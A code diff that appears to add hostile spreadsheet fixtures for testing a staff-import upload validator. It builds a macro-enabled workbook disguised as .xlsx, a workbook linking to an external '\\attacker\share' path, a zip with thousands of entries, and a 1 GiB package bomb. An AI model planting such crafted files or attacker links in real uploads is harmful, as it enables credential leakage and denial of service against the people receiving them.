@@ -233,3 +233,48 @@ HOSTILE = {
     "executable.pdf": pdf_prefixed_executable,
     "pixels.png": png_pixel_bomb,
 }
+
+
+# --- the same classes as workbooks (for the staff import) ------------------------------------------
+
+
+def _xlsx() -> bytes:
+    return xlsx((("СНИЛС", "Фамилия"), ("112-233-445 95", "Тестова")))
+
+
+def xlsx_macro() -> bytes:
+    """A macro-enabled workbook (.xlsm) renamed .xlsx."""
+    base = _xlsx()
+    with zipfile.ZipFile(io.BytesIO(base)) as source:
+        types = source.read("[Content_Types].xml")
+    types = types.replace(b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")
+    return repack(base, replace={"[Content_Types].xml": types}, add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"})
+
+
+def xlsx_external_link() -> bytes:
+    base = _xlsx()
+    with zipfile.ZipFile(io.BytesIO(base)) as source:
+        rels = source.read("xl/_rels/workbook.xml.rels")
+    rels = rels.replace(
+        b"</Relationships>",
+        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        b'externalLinkPath" Target="\\\\attacker\\share\\book.xlsx" TargetMode="External"/></Relationships>',
+    )
+    return repack(base, replace={"xl/_rels/workbook.xml.rels": rels})
+
+
+def xlsx_many_entries(count: int = 10_000) -> bytes:
+    return repack(_xlsx(), add={f"xl/media/x{i}.txt": b"" for i in range(count)})
+
+
+def xlsx_bomb() -> bytes:
+    """The 1 GiB package uploaded as a workbook: refused for its size before its kind matters."""
+    return docx_bomb()
+
+
+HOSTILE_WORKBOOKS = {
+    "bomb.xlsx": xlsx_bomb,
+    "macro.xlsx": xlsx_macro,
+    "external.xlsx": xlsx_external_link,
+    "entries.xlsx": xlsx_many_entries,
+}
